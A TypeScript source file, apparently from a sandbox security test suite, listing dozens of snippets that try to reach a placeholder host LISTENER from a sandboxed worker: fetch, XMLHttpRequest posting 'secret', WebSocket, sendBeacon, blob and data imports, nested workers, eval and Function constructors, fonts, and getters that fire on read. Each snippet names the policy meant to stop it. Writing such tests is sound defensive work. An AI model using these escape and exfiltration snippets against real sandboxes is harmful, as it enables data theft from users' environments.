/** Ways from a snippet to the network. */
import type { Attack, AttackClass } from '../attack.ts';

const POLICY = 'The policy of the sandbox frame allows no connection to anywhere.';
const NO_SCRIPT = 'The policy of the sandbox frame allows no script from an address.';
const NO_WORKER = 'The policy of the sandbox frame holds in every worker that is made in it.';
const NO_EVAL =
  'The policy of the sandbox frame allows no text to be evaluated, and no connection.';
const NOT_THERE = 'A worker has no such thing.';
const REFUSED_IMPORT = 'A snippet imports the modules of its book and nothing else.';
const NOT_MORE = 'What runs there has no more rights than the snippet.';

/** Tries an expression, whatever becomes of it. A text that it gives was read from somewhere. */
const trying = (expression: string) => `let answer: unknown;
try {
  answer = await (async () => ${expression})();
} catch (error) {
  answer = 'refused';
}
export const heard = typeof answer === 'string' ? answer : typeof answer;`;

const way = (name: string, stoppedBy: string, expression: string): Attack => {
  return { name, stoppedBy, code: trying(expression) };
};

/** Asks for a file of the book itself, and reads it. */
const READ = `(text: string) => (text.length > 0 ? 'BREACH' : '')`;

export const network: AttackClass = {
  name: 'network',
  about: 'A snippet tries to tell somebody something, or to load something.',
  attacks: [
    way('fetch', POLICY, `fetch('http://LISTENER/')`),
    way('fetch without leave to read', POLICY, `fetch('http://LISTENER/', { mode: 'no-cors' })`),
    way('fetch with cookies', POLICY, `fetch('http://LISTENER/', { credentials: 'include' })`),
    way(
      'fetch that outlives its page',
      POLICY,
      `fetch('http://LISTENER/', { method: 'POST', body: 'x', keepalive: true, mode: 'no-cors' })`,
    ),
    way('fetch of a request', POLICY, `fetch(new Request('http://LISTENER/', { method: 'PUT' }))`),
    way(
      'fetch of a host that is another site',
      POLICY,
      `fetch('http://localhost:' + 'LISTENER'.split(':')[1])`,
    ),
    way(
      'fetch of the book itself',
      POLICY,
      `(await fetch('SITE/notebook/snippets.json?leak')).text().then(${READ})`,
    ),
    way(
      'fetch of a path',
      POLICY,
      `(await fetch('/notebook/snippets.json?leak')).text().then(${READ})`,
    ),
    way('fetch of data', POLICY, `(await fetch('data:text/plain,x')).text().then(() => 'read')`),
    way(
      'fetch taken from the prototype of the global object',
      POLICY,
      `(Object.getPrototypeOf(Object.getPrototypeOf(globalThis)) as any).fetch.call(globalThis, 'http://LISTENER/')`,
    ),
    way(
      'fetch through Reflect',
      POLICY,
      `Reflect.apply(Reflect.get(globalThis, 'fe' + 'tch'), globalThis, ['http://LISTENER/'])`,
    ),
    way(
      'fetch in another realm’s words',
      NO_EVAL,
      `(async () => {}).constructor('return fetch("http://LISTENER/")')()`,
    ),
    way(
      'XMLHttpRequest',
      POLICY,
      `{ const r = new XMLHttpRequest(); r.open('GET', 'http://LISTENER/'); r.send(); return r.status; }`,
    ),
    way(
      'XMLHttpRequest that waits',
      POLICY,
      `{ const r = new XMLHttpRequest(); r.open('GET', 'http://LISTENER/', false); r.send(); return r.status; }`,
    ),
    way(
      'XMLHttpRequest of the book itself',
      POLICY,
      `{ const r = new XMLHttpRequest(); r.open('GET', 'SITE/notebook/snippets.json?leak', false); r.send(); return r.responseText && 'BREACH'; }`,
    ),
    way(
      'XMLHttpRequest that posts',
      POLICY,
      `{ const r = new XMLHttpRequest(); r.open('POST', 'http://LISTENER/'); r.send('secret'); return r.status; }`,
    ),
    way('WebSocket', POLICY, `new WebSocket('ws://LISTENER/')`),
    way('WebSocket with encryption', POLICY, `new WebSocket('wss://LISTENER/')`),
    way('WebSocket to the book’s host', POLICY, `new WebSocket('SITE/leak'.replace('http', 'ws'))`),
    way(
      'WebSocketStream',
      POLICY,
      `new (globalThis as any).WebSocketStream('ws://LISTENER/').opened`,
    ),
    way('EventSource', POLICY, `new EventSource('http://LISTENER/')`),
    way('WebTransport', POLICY, `new WebTransport('https://LISTENER/').ready`),
    way(
      'WebRTC with a STUN server',
      NOT_THERE,
      `{ const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:LISTENER' }] });
    c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer()); }`,
    ),
    way(
      'WebRTC with a TURN server by TCP',
      NOT_THERE,
      `{ const c = new RTCPeerConnection({ iceServers: [{ urls: 'turn:LISTENER?transport=tcp', username: 'a', credential: 'b' }] });
    c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer()); }`,
    ),
    way('sendBeacon', NOT_THERE, `(navigator as any).sendBeacon('http://LISTENER/', 'secret')`),
    way(
      'sendBeacon of the prototype',
      NOT_THERE,
      `(globalThis as any).Navigator.prototype.sendBeacon.call(navigator, 'http://LISTENER/')`,
    ),
    way('fetchLater', NOT_THERE, `(globalThis as any).fetchLater('http://LISTENER/')`),
    way('import()', NO_SCRIPT, `import('http://LISTENER/x.js')`),
    way('import() of the book’s files', NO_SCRIPT, `import('SITE/notebook/kernel.js?leak')`),
    way('import() of data', NO_SCRIPT, `import('data:text/javascript,import "http://LISTENER/"')`),
    way(
      'import() of a blob that imports',
      NO_SCRIPT,
      `import(URL.createObjectURL(new Blob(['import "http://LISTENER/"'], { type: 'text/javascript' })))`,
    ),
    way(
      'import() of a blob that fetches',
      NOT_MORE,
      `import(URL.createObjectURL(new Blob(['await fetch("http://LISTENER/")'], { type: 'text/javascript' })))`,
    ),
    way(
      'import() of JSON',
      NO_SCRIPT,
      `import('http://LISTENER/x.json', { with: { type: 'json' } } as any)`,
    ),
    {
      name: 'import of an address',
      stoppedBy: REFUSED_IMPORT,
      code: `import x from 'http://LISTENER/x.js';\nexport const heard = x;`,
    },
    {
      name: 'import of data',
      stoppedBy: REFUSED_IMPORT,
      code: `import 'data:text/javascript,fetch("http://LISTENER/")';`,
    },
    {
      name: 'import of a path that leaves the snippets',
      stoppedBy: REFUSED_IMPORT,
      code: `import '../../../../LISTENER/leak.ts';`,
    },
    {
      name: 'import of an address that begins with two slashes',
      stoppedBy: REFUSED_IMPORT,
      code: `import '//LISTENER/x.ts';`,
    },
    {
      name: 'export from an address',
      stoppedBy: REFUSED_IMPORT,
      code: `export * from 'http://LISTENER/x.js';`,
    },
    {
      name: 'a source map at an address',
      stoppedBy:
        'No tool that reads source maps looks at the snippet, and the policy allows no connection.',
      code: `export const x = 1;\n//# sourceMappingURL=http://LISTENER/x.map`,
    },
    way('importScripts', NO_SCRIPT, `(globalThis as any).importScripts('http://LISTENER/x.js')`),
    way(
      'importScripts of the book’s files',
      NO_SCRIPT,
      `(globalThis as any).importScripts('SITE/notebook/kernel.js?leak')`,
    ),
    way(
      'importScripts of data',
      NO_SCRIPT,
      `(globalThis as any).importScripts('data:text/javascript,fetch("http://LISTENER/")')`,
    ),
    way(
      'importScripts of a blob',
      NOT_MORE,
      `(globalThis as any).importScripts(URL.createObjectURL(new Blob(['fetch("http://LISTENER/")'])))`,
    ),
    way('a worker from an address', NO_WORKER, `new Worker('http://LISTENER/x.js')`),
    way('a worker from the book’s host', NO_WORKER, `new Worker('SITE/notebook/kernel.js?leak')`),
    way(
      'a worker from a blob',
      NO_WORKER,
      `new Worker(URL.createObjectURL(new Blob(['fetch("http://LISTENER/")'])))`,
    ),
    way(
      'a worker from data',
      NO_WORKER,
      `new Worker('data:text/javascript,fetch("http://LISTENER/")')`,
    ),
    way(
      'a worker that is a module',
      NO_WORKER,
      `new Worker(URL.createObjectURL(new Blob(['import "http://LISTENER/"'])), { type: 'module' })`,
    ),
    way(
      'a worker of a worker',
      NO_WORKER,
      `new Worker(URL.createObjectURL(new Blob([
        'new Worker(URL.createObjectURL(new Blob([\\'new WebSocket("ws://LISTENER/")\\'])))',
      ])))`,
    ),
    way(
      'a shared worker',
      NOT_THERE,
      `new SharedWorker('data:text/javascript,fetch("http://LISTENER/")')`,
    ),
    way(
      'a service worker',
      NOT_THERE,
      `(navigator as any).serviceWorker.register('SITE/notebook/kernel.js?leak')`,
    ),
    way('a font', POLICY, `new FontFace('x', 'url(http://LISTENER/x.woff2)').load()`),
    way(
      'a font that is added',
      POLICY,
      `{ const face = new FontFace('y', 'url(http://LISTENER/y.woff2)');
    (globalThis as any).fonts.add(face); await (globalThis as any).fonts.load('9px y'); }`,
    ),
    way(
      'a font in a canvas',
      POLICY,
      `{ const context = new OffscreenCanvas(9, 9).getContext('2d') as any;
    context.filter = 'url(http://LISTENER/x.svg#f)'; context.font = '9px x'; context.fillText('x', 1, 1); }`,
    ),
    way(
      'an image',
      NOT_THERE,
      `{ const image = new Image(); image.src = 'http://LISTENER/x.png'; }`,
    ),
    way('a sound', NOT_THERE, `new Audio('http://LISTENER/x.mp3').play()`),
    way(
      'WebAssembly from an address',
      POLICY,
      `WebAssembly.compileStreaming(fetch('http://LISTENER/x.wasm'))`,
    ),
    way(
      'WebAssembly from bytes',
      'WebAssembly can call only what a snippet can call.',
      `WebAssembly.instantiate(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).then(() => fetch('http://LISTENER/'))`,
    ),
    way('eval', NO_EVAL, `(0, eval)('fetch("http://LISTENER/")')`),
    way('Function', NO_EVAL, `new Function('return fetch("http://LISTENER/")')()`),
    way(
      'the constructor of a function’s constructor',
      NO_EVAL,
      `([] as any).constructor.constructor('return fetch("http://LISTENER/")')()`,
    ),
    way(
      'the constructor of a generator',
      NO_EVAL,
      `Object.getPrototypeOf(function* () {}).constructor('fetch("http://LISTENER/")')().next()`,
    ),
    way('a timer with a text', NO_EVAL, `setTimeout('fetch("http://LISTENER/")' as any, 0)`),
    way(
      'ShadowRealm',
      NO_EVAL,
      `new (globalThis as any).ShadowRealm().evaluate('fetch("http://LISTENER/")')`,
    ),
    way('the cache', POLICY, `(await caches.open('x')).add('http://LISTENER/')`),
    way(
      'a notification with a picture',
      NOT_THERE,
      `new Notification('x', { icon: 'http://LISTENER/x.png' })`,
    ),
    way(
      'a push subscription',
      NOT_THERE,
      `(globalThis as any).registration.pushManager.subscribe()`,
    ),
    way(
      'a download in the background',
      NOT_THERE,
      `(globalThis as any).registration.backgroundFetch.fetch('x', 'http://LISTENER/')`,
    ),
    way(
      'going to an address',
      NOT_THERE,
      `{ (globalThis as any).location = 'http://LISTENER/'; (globalThis as any).open('http://LISTENER/'); }`,
    ),
    way('a USB device', NOT_THERE, `(navigator as any).usb.getDevices().then(() => 'BREACH')`),
    way('a serial port', NOT_THERE, `(navigator as any).serial.getPorts().then(() => 'BREACH')`),
    way('a HID device', NOT_THERE, `(navigator as any).hid.getDevices().then(() => 'BREACH')`),
    {
      name: 'fetch when an output is read',
      stoppedBy: POLICY,
      code: `export const record = { get field() { void fetch('http://LISTENER/'); return 1; } };`,
    },
    {
      name: 'fetch when an error is read',
      stoppedBy: POLICY,
      code: `throw { toString() { void fetch('http://LISTENER/'); return 'x'; }, toJSON() { void fetch('http://LISTENER/'); return 1; } };`,
    },
    {
      name: 'fetch after the end',
      stoppedBy: POLICY,
      code: `Promise.resolve().then(() => Promise.resolve()).then(() => fetch('http://LISTENER/'));
globalThis.setTimeout?.(() => fetch('http://LISTENER/'), 50);
export const x = 1;`,
    },
  ],
};
